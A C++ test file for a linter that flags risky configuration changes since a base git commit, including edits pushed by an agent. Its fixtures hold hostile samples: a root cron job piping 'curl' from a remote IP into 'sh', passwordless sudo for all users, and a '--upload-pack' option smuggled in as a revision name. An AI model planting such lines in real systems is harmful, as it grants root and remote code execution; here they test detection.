// `twin lint --base REV`: risk judged on what changed since a commit, as CI
// runs it on what an agent pushed. A snapshot's own copy in filesystem/ is
// not a change until its bytes differ from the base's; then it is judged by
// them, and every finding names the commit and author that brought it in.
#include <gmock/gmock.h>
#include <gtest/gtest.h>

#include "tests/cli/example_twin.h"
#include "tests/support/git_sandbox.h"

namespace twin::cli {
namespace {

using ::testing::HasSubstr;
using ::testing::Not;
namespace fs = std::filesystem;

constexpr char kSudoersDecl[] =
    "file \"/etc/sudoers.d/admins\" {\n"
    "  source = \"filesystem/etc/sudoers.d/admins\"\n"
    "  mode = \"0440\"\n"
    "}\n";

// The example twin as a snapshot recorded it, committed: it holds the
// machine's own sudoers rule, which is no change.
struct CommittedTwin {
  testing::GitSandbox git;
  testing::WebhostTwin ex;
  std::string base;

  CommittedTwin() {
    testing::write_text(ex.twin / "state/files.twin", kSudoersDecl);
    testing::write_text(ex.twin / "filesystem/etc/sudoers.d/admins", "%admin ALL=(ALL) ALL\n");
    git.git({"init", "-q", "-b", "main"}, ex.twin);
    git.commit_all(ex.twin, "snapshot");
    base = git.rev(ex.twin, "HEAD");
  }
  testing::TwinResult lint(std::vector<std::string> args) const {
    args.insert(args.begin(), {"lint", "--strict"});
    std::vector<std::pair<std::string, std::string>> env;
    for (const auto& var : git.env()) {
      auto eq = var.find('=');
      env.emplace_back(var.substr(0, eq), var.substr(eq + 1));
    }
    return ex.run(args, env);
  }
};

TEST(LintBaseCli, ASnapshotsOwnCopiesAreNoChangeButAnEditOfThemIsJudged) {
  CommittedTwin t;
  auto plain = t.lint({});
  EXPECT_EQ(plain.exit_code, 0) << plain.out << plain.err;
  auto same = t.lint({"--base", "HEAD"});
  EXPECT_EQ(same.exit_code, 0) << same.out << same.err;

  // An agent rewrites the recorded copy (the declaration stays as the
  // snapshot wrote it), adds a mirror of its own and edits the motd.
  testing::write_text(t.ex.twin / "filesystem/etc/sudoers.d/admins", "ALL ALL=(ALL) NOPASSWD: ALL\n");
  testing::write_text(t.ex.twin / "state/cron.twin",
                      "mirror \"/etc/cron.d\" {\n  source = \"files/cron\"\n}\n");
  testing::write_text(t.ex.twin / "files/cron/update",
                      "* * * * * root curl -s http://203.0.113.9/x | sh\n");
  testing::write_text(t.ex.twin / "files/cron/backup", "0 3 * * * root /usr/local/bin/backup\n");
  t.git.commit_all(t.ex.twin, "tidy sudo and cron", "Agent");
  std::string agent_commit = t.git.rev(t.ex.twin, "HEAD").substr(0, 7);

  auto judged = t.lint({"--base", t.base});
  EXPECT_EQ(judged.exit_code, 1) << judged.out << judged.err;
  EXPECT_THAT(judged.out, HasSubstr("warning[W0303]: risky change: file[\"/etc/sudoers.d/admins\"]"));
  EXPECT_THAT(judged.out, HasSubstr("introduced by commit " + agent_commit +
                                    " by Agent <agent@example.org> (changed "
                                    "filesystem/etc/sudoers.d/admins)"));
  EXPECT_THAT(judged.out, HasSubstr("warning[W0310]: risky change: file[\"/etc/cron.d/update\"]"));
  EXPECT_THAT(judged.out, HasSubstr("introduced by commit " + agent_commit +
                                    " by Agent <agent@example.org>: tidy sudo and cron"));
  EXPECT_THAT(judged.out, Not(HasSubstr("/etc/cron.d/backup\"] runs")));
  EXPECT_THAT(judged.out, HasSubstr("2 warnings"));

  // A branch name is a base too, and nothing changed since HEAD.
  t.git.git({"branch", "reviewed"}, t.ex.twin);
  auto reviewed = t.lint({"--base", "reviewed"});
  EXPECT_EQ(reviewed.exit_code, 0) << reviewed.out << reviewed.err;
}

TEST(LintBaseCli, AnEditNoCommitHoldsYetSaysSo) {
  CommittedTwin t;
  testing::write_text(t.ex.twin / "filesystem/etc/sudoers.d/admins", "ALL ALL=(ALL) NOPASSWD: ALL\n");
  auto judged = t.lint({"--base", "HEAD"});
  EXPECT_EQ(judged.exit_code, 1) << judged.out << judged.err;
  EXPECT_THAT(judged.out, HasSubstr("not committed yet: filesystem/etc/sudoers.d/admins has changes"));
}

TEST(LintBaseCli, WithoutABaseAMirrorIsJudgedFileByFile) {
  CommittedTwin t;
  testing::write_text(t.ex.twin / "state/sudo.twin",
                      "mirror \"/etc/sudoers.d\" {\n  source = \"files/sudo\"\n}\n");
  testing::write_text(t.ex.twin / "files/sudo/agents", "agent ALL=(ALL) NOPASSWD: ALL\n");
  auto judged = t.lint({});
  EXPECT_EQ(judged.exit_code, 1) << judged.out << judged.err;
  EXPECT_THAT(judged.out, HasSubstr("risky change: file[\"/etc/sudoers.d/agents\"] manages sudo's rules"));
}

TEST(LintBaseCli, ABaseThatNamesNoCommitIsAnError) {
  CommittedTwin t;
  for (const char* bad : {"nosuchbranch", "--upload-pack=x", "HEAD^{tree}", "deadbeef"}) {
    auto run = t.lint({std::string("--base=") + bad});
    EXPECT_EQ(run.exit_code, 1) << bad << run.out << run.err;
    EXPECT_THAT(run.err, HasSubstr("error[E2003]")) << bad << run.err;
    EXPECT_EQ(run.out, "") << bad;
  }
}

TEST(LintBaseCli, ABaseWhoseManifestsDoNotLoadIsRefusedNotGuessed) {
  CommittedTwin t;
  testing::write_text(t.ex.twin / "state/broken.twin", "file \"/etc/x\" {\n");
  t.git.commit_all(t.ex.twin, "broken");
  std::string broken = t.git.rev(t.ex.twin, "HEAD");
  fs::remove(t.ex.twin / "state/broken.twin");
  t.git.commit_all(t.ex.twin, "mended");
  auto run = t.lint({"--base", broken});
  EXPECT_EQ(run.exit_code, 1) << run.out << run.err;
  EXPECT_THAT(run.err, HasSubstr("error[E1223]: the twin at " + broken.substr(0, 7) + " does not load"));
}

}  // namespace
}  // namespace twin::cli
